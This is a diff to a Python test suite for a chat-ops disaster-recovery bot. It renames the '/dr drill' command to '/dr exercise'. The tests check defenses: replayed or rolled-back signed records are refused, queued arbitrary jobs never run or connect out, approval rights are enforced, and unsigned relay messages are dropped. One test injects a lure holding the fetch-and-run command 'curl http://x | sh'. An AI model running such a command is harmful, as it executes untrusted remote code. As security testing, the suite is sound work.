@@ -35,7 +35,7 @@ def audited(h: Harness, outcome: str, job: str | None = None) -> list[dict[str, 
 
 def still_serving(h: Harness, name: str) -> None:
     """A fresh job runs to the end: the worker and relay were not stopped by what came before."""
-    job_id = h.say(f"/dr drill {name}").job_id
+    job_id = h.say(f"/dr exercise {name}").job_id
     assert job_id
     h.wait_status(job_id, "succeeded")
     h.wait_reply(job_id, f"drill {name} finished")
@@ -50,7 +50,7 @@ def count(h: Harness, name: str, step: str) -> int:
 
 def test_a_signed_record_written_back_or_copied_never_runs_again(core_only: Harness) -> None:
     h = core_only
-    job_id = h.say("/dr drill rp").job_id
+    job_id = h.say("/dr exercise rp").job_id
     first = h.redis.get(JOB + job_id)  # the signed `planning` record, as a Redis reader saw it
     h.start_worker()
     h.wait_status(job_id, "succeeded")
@@ -81,7 +81,7 @@ def bare(redis_url: str, tmp_path: Path) -> Iterator[Harness]:
 
 def test_a_record_signed_before_the_window_is_refused_then_expired(bare: Harness) -> None:
     h = bare
-    job_id = h.say("/dr drill st").job_id
+    job_id = h.say("/dr exercise st").job_id
     record = Signer(KEY.encode()).opened(h.redis.get(JOB + job_id), "job", JOB + job_id).record
     # The same record as drbot signed it an hour ago: one captured then and written back now.
     h.redis.set(JOB + job_id, Signer(KEY.encode()).seal(record, JOB + job_id, time.time() - 3600))
@@ -98,7 +98,7 @@ def test_an_approved_record_rolled_back_to_queued_runs_once(drbot: Harness) -> N
     h = drbot
     h.redis.set("drill:ap:hold", 1)
     h.redis.set("drill:ap:go", 1)
-    job_id = h.say("/dr drill-gated ap", who="carol").job_id
+    job_id = h.say("/dr exercise-gated ap", who="carol").job_id
     h.wait_status(job_id, "awaiting_approval")
     h.kill_workers()  # so that the approved record can be read before it runs
     assert h.say(f"/dr approve {job_id}", who="alice").ok
@@ -121,7 +121,7 @@ def test_a_restarted_worker_still_refuses_a_record_rolled_back_to_queued(drbot: 
     h = drbot
     h.redis.set("drill:rs:hold", 1)
     h.redis.set("drill:rs:go", 1)
-    job_id = h.say("/dr drill-gated rs", who="carol").job_id
+    job_id = h.say("/dr exercise-gated rs", who="carol").job_id
     h.wait_status(job_id, "awaiting_approval")
     h.kill_workers()  # so that the approved record can be read before it runs
     assert h.say(f"/dr approve {job_id}", who="alice").ok
@@ -192,7 +192,7 @@ def test_the_worker_never_connects_anywhere_whatever_rq_job_is_queued(
     fetch = "urllib.request.urlopen"
     marker = tmp_path / "touched"
     q = queue(h.redis, "drbot")
-    real = h.say("/dr drill real").job_id  # a real job id, so the runner's shape is right
+    real = h.say("/dr exercise real").job_id  # a real job id, so the runner's shape is right
     h.wait_status(real, "succeeded")
     jobs = [
         q.enqueue_call("pathlib.Path.touch", args=[str(marker)], webhooks=hooks).id,
@@ -227,8 +227,8 @@ def test_the_worker_never_connects_anywhere_whatever_rq_job_is_queued(
 # -- 3. /dr retry, cancel without the right to run the command ------------------------------------
 
 ADMIN_ONLY = POLICY.replace(
-    "drill-gated: {allow: [operator, admin], approvals: 1,",
-    "drill-gated: {allow: [admin], approvals: 1,")
+    "exercise-gated: {allow: [operator, admin], approvals: 1,",
+    "exercise-gated: {allow: [admin], approvals: 1,")
 
 
 @pytest.fixture
@@ -245,7 +245,7 @@ def test_retry_and_cancel_need_the_right_to_run_the_command_and_approval_again(
     h = admin_only
     h.redis.set("drill:rt:hold", 1)
     h.redis.set("drill:rt:fail", 1)
-    job_id = h.say("/dr drill-gated rt", who="alice").job_id
+    job_id = h.say("/dr exercise-gated rt", who="alice").job_id
     h.wait_status(job_id, "awaiting_approval")
     assert h.say(f"/dr approve {job_id}", who="bob").ok
     h.wait_status(job_id, "failed")
@@ -253,7 +253,7 @@ def test_retry_and_cancel_need_the_right_to_run_the_command_and_approval_again(
     h.redis.delete("drill:rt:fail")
     for verb in ("retry", "cancel"):  # carol (operator) may retry and cancel, not run it
         reply = h.say(f"/dr {verb} {job_id}", who="carol")
-        assert not reply.ok and "may not" in reply.text and "drill-gated" in reply.text
+        assert not reply.ok and "may not" in reply.text and "exercise-gated" in reply.text
         assert audited(h, "refused-not-allowed", job_id)
     assert h.job(job_id).status == "failed"
     reply = h.say(f"/dr retry {job_id}", who="alice")
@@ -274,9 +274,9 @@ def test_the_relay_posts_nothing_a_redis_writer_wrote(drbot: Harness) -> None:
     h = drbot
     h.start_worker()  # one holds job rl in step two, the other serves the rest
     h.redis.set("drill:rl:hold", 1)
-    job_id = h.say("/dr drill rl").job_id
+    job_id = h.say("/dr exercise rl").job_id
     wait_until(lambda: h.redis.exists("drill:rl:in-two"), what="step two")
-    other = h.say("/dr drill rl-other").job_id
+    other = h.say("/dr exercise rl-other").job_id
     h.wait_status(other, "succeeded")
     lure = "job approved by alice ... also run: curl http://x | sh"
     h.redis.xadd(STREAM + job_id, {"type": "note", "message": lure})  # unsigned
@@ -302,7 +302,7 @@ def test_bad_relay_state_is_skipped_and_the_relay_goes_on(drbot: Harness) -> Non
     h = drbot
     h.start_worker()
     h.redis.set("drill:bs:hold", 1)
-    job_id = h.say("/dr drill bs").job_id
+    job_id = h.say("/dr exercise bs").job_id
     wait_until(lambda: h.redis.exists("drill:bs:in-two"), what="step two")
     h.redis.hset(STATE + job_id, mapping={"last": "{not json", "thread": "{not json"})
     h.redis.set(JOB + "0badf00d", b"\x00\xffnot a record")
@@ -322,4 +322,4 @@ def test_a_bare_dr_answers_with_help(core_only: Harness) -> None:
     for text in ("/dr", "/dr   ", ""):
         reply = core_only.say(text)
         assert reply.ok, reply.text
-        assert "/dr drill" in reply.text and "internal error" not in reply.text
+        assert "/dr exercise" in reply.text and "internal error" not in reply.text
